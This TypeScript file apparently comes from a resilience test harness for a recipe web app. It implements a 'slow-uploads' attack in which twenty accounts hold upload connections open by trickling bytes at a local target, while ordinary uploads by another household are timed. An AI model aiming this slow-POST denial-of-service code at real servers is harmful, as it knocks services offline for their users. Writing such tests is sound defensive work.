import { setTimeout } from 'node:timers/promises';
import sharp from 'sharp';
import type { SessionHeaders } from '../../../harness/account.js';
import { send } from '../../../harness/send.js';
import type { Attack, Target } from '../../attack.js';
import { besideOtherPerson } from '../../other-person.js';
import { withConnection } from '../../raw-connection.js';
import { writeOrdinaryRecipe } from '../../recipes.js';
import type { Traffic } from '../../traffic.js';
import { signUpWithSources } from '../hostile-pages.js';
import { ordinaryArchive, readArchive, upload } from './read-archive.js';

/** People who send slowly: 70 KB a second and upload. */
const SLOW_PEOPLE = 20;
const SLOW_PART = Buffer.alloc(7_000, ' ');
const SLOW_INTERVAL_MS = 100;

const FORM =
  'Content-Type: multipart/form-data; boundary=part\r\nContent-Length: 200000000\r\n\r\n' +
  '--part\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n';
const IMPORT = '/house/current/import';
/** What each of them sends: two files at most, and a picture. */
const UPLOADS = [
  `POST /archives HTTP/1.1\r\n${FORM}`,
  `POST ${IMPORT} HTTP/1.1\r\n${FORM}`,
  'PUT /recipes/1/photo HTTP/1.1\r\nContent-Type: image/png\r\nContent-Length: 10000000\r\n\r\n',
];

/**
 * Twenty people send two files and a picture each, just fast enough. Another house uploads three
 * recipes, imports its own export, and changes a photo.
 */
export const SLOW_UPLOADS: Attack = {
  name: 'slow-uploads',
  prepare: async (target) => {
    const attackers: SessionHeaders[] = [];
    for (let person = 0; person < SLOW_PEOPLE; person++)
      attackers.push(await signUpWithSources(target));
    const uploads = await uploadsOf(target, await signUpWithSources(target));
    return besideOtherPerson(
      (traffic) =>
        traffic.repeat(UPLOADS.length * SLOW_PEOPLE, (index) =>
          withConnection(traffic, async (socket) => {
            traffic.sent++;
            const { cookie = '' } = attackers[index % SLOW_PEOPLE] ?? {};
            const head = UPLOADS[Math.floor(index / SLOW_PEOPLE) % UPLOADS.length] ?? '';
            socket.write(head.replace('\r\n', `\r\nHost: 127.0.0.1\r\nCookie: ${cookie}\r\n`));
            while (!traffic.isOver && socket.writable) {
              socket.write(SLOW_PART);
              await setTimeout(SLOW_INTERVAL_MS);
            }
          }),
        ),
      (traffic, index) => uploads[index % uploads.length]?.(traffic) ?? Promise.resolve(undefined),
    );
  },
};

/** The uploads of a house that sends as usual. Each returns its status. */
async function uploadsOf(
  target: Target,
  headers: SessionHeaders,
): Promise<((traffic: Traffic) => Promise<number>)[]> {
  const { apiUrl } = target;
  const { id } = await writeOrdinaryRecipe(target, headers);
  const archive = await ordinaryArchive();
  const house = await send('GET', `${apiUrl}/house/current/export`, headers);
  const exported = Buffer.from(await house.arrayBuffer());
  const create = { width: 500, height: 500, channels: 3, background: '#c86432' } as const;
  const body = Uint8Array.from(await sharp({ create }).png({ compressionLevel: 0 }).toBuffer());
  const type = { 'content-type': 'image/png' };
  const photo = `${apiUrl}/recipes/${String(id)}/photo`;
  return [
    (traffic) => readArchive(target, headers, archive, traffic),
    async () => (await upload(target, headers, exported, IMPORT)).status,
    async () =>
      (await fetch(photo, { method: 'PUT', headers: { ...headers, ...type }, body })).status,
  ];
}
